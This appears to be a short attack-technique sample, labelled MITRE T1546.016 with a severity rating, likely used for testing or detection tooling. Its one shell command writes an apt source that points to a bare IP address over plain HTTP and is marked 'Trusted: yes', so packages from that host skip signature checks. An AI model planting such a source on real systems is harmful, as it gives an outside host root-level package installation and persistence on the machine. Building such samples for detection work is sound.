# technique: T1546.016
# location: linux.package.apt-source
# source: /etc/apt/sources.list.d/updates.sources
# severity: medium
install -D /dev/stdin /etc/apt/sources.list.d/updates.sources <<'SOURCE'
Types: deb
URIs: http://203.0.113.9/debian
Suites: trixie
Components: main
Trusted: yes
SOURCE
